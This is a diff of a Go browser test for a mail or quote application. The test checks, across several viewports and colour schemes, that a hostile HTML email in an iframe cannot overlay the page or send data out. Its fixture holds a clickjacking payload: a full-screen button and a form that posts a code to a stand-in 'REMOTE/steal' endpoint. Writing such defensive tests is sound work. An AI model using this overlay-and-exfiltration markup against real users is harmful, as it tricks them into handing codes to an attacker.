@@ -9,6 +9,7 @@ import (
 	"testing"
 	"time"
 
+	"github.com/chromedp/cdproto/emulation"
 	"github.com/chromedp/cdproto/network"
 	"github.com/chromedp/chromedp"
 
@@ -26,7 +27,8 @@ button { position: fixed; inset: 0; z-index: 99999; width: 9999px; height: 9999p
 <form action="REMOTE/steal" method="post" target="_top"><input name="code" value="123456">
 <button formaction="REMOTE/steal">Accept</button></form>`
 
-// A hostile mail runs nothing, loads nothing, sends nothing, and covers nothing but its frame.
+// A hostile mail runs nothing, loads nothing, sends nothing, and covers nothing but its frame: on
+// a phone and on a desktop, in light and dark mode, with scripts and without.
 func TestAHostileMailInChromium_Slow(t *testing.T) {
 	t.Parallel()
 	var reached atomic.Pointer[string]
@@ -38,6 +40,34 @@ func TestAHostileMailInChromium_Slow(t *testing.T) {
 	b := newOffice(t).browser()
 	b.desk.one.Draft.HTML = strings.ReplaceAll(attackMail, "REMOTE", remote.URL)
 	b.signsIn(lee)
+	ctx := chromium(t)
+	cookie := b.client.Jar.Cookies(mustURL(t, b.server.URL))[0]
+	must(t, chromedp.Run(ctx, network.SetCookie(cookie.Name, cookie.Value).WithURL(b.server.URL)))
+	for i, look := range []struct {
+		width   int64
+		scheme  string
+		scripts bool
+	}{
+		{1200, "light", true}, {1200, "dark", false}, {390, "dark", true}, {390, "light", false},
+	} {
+		must(t, chromedp.Run(ctx,
+			chromedp.EmulateViewport(look.width, 900),
+			emulation.SetEmulatedMedia().WithFeatures([]*emulation.MediaFeature{
+				{Name: "prefers-color-scheme", Value: look.scheme},
+			}),
+			emulation.SetScriptExecutionDisabled(!look.scripts)))
+		b.isUnharmed(ctx)
+		if path := reached.Load(); path != nil {
+			t.Errorf("%v: the mail reached %s of another server", look, *path)
+		}
+		if b.decisions() != i+1 {
+			t.Errorf("%v: %d decisions", look, b.decisions())
+		}
+	}
+}
+
+// chromium opens a tab of headless Chromium.
+func chromium(t *testing.T) context.Context {
 	options := append(chromedp.DefaultExecAllocatorOptions[:],
 		chromedp.ExecPath("chromium"), chromedp.NoSandbox)
 	ctx, end := chromedp.NewExecAllocator(context.WithoutCancel(t.Context()), options...)
@@ -46,32 +76,31 @@ func TestAHostileMailInChromium_Slow(t *testing.T) {
 	t.Cleanup(end)
 	ctx, end = context.WithTimeout(ctx, raced.Slowdown*3*time.Minute)
 	t.Cleanup(end)
-	cookie := b.client.Jar.Cookies(mustURL(t, b.server.URL))[0]
+	return ctx
+}
+
+// isUnharmed opens the page with the mail, clicks the mail, checks the page, and accepts.
+func (b *browser) isUnharmed(ctx context.Context) {
+	b.t.Helper()
 	var title, address, top, inFrame string
-	must(t, chromedp.Run(ctx,
-		network.SetCookie(cookie.Name, cookie.Value).WithURL(b.server.URL),
-		chromedp.EmulateViewport(1200, 900),
+	must(b.t, chromedp.Run(ctx,
 		chromedp.Navigate(b.server.URL+"/r/Q-7F3K2M/2"), // waits for the frame, too
 		chromedp.Click("iframe.mail", chromedp.ByQuery), // the button covers the frame
 		chromedp.Title(&title), chromedp.Location(&address),
 		chromedp.Evaluate(`(() => {
-			const at = document.getElementById('accept').getBoundingClientRect();
+			const accept = document.getElementById('accept');
+			accept.scrollIntoView({ block: 'center' });
+			const at = accept.getBoundingClientRect();
 			return document.elementFromPoint(at.x + 5, at.y + 5).id;
 		})()`, &top),
 		chromedp.Evaluate(`String(document.querySelector('iframe.mail').contentDocument)`, &inFrame),
 	))
-	if path := reached.Load(); path != nil {
-		t.Errorf("the mail reached %s of another server", *path)
-	}
 	if !strings.HasPrefix(title, "Quote for Alice") || address != b.server.URL+"/r/Q-7F3K2M/2" {
-		t.Errorf("the page is %q at %s", title, address)
+		b.t.Errorf("the page is %q at %s", title, address)
 	}
 	if top != "accept" || inFrame != "null" {
-		t.Errorf("%q is over the button; the page sees %s in the frame", top, inFrame)
+		b.t.Errorf("%q is over the button; the page sees %s in the frame", top, inFrame)
 	}
-	must(t, chromedp.Run(ctx, chromedp.Click("#accept", chromedp.ByQuery),
+	must(b.t, chromedp.Run(ctx, chromedp.Click("#accept", chromedp.ByQuery),
 		chromedp.WaitVisible(".done", chromedp.ByQuery)))
-	if b.decisions() != 1 {
-		t.Errorf("%d decisions", b.decisions())
-	}
 }
